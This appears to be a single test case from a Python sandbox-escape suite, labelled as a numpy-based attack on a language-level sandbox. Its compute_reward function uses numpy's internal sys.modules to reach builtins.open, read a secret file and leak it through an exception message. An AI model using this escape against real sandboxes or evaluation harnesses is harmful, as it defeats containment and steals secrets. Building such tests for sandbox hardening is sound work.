# attack: modules under np.core
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    raise ValueError(np.lib._utils_impl.sys.modules['builtins'].open('@SECRET@').read())
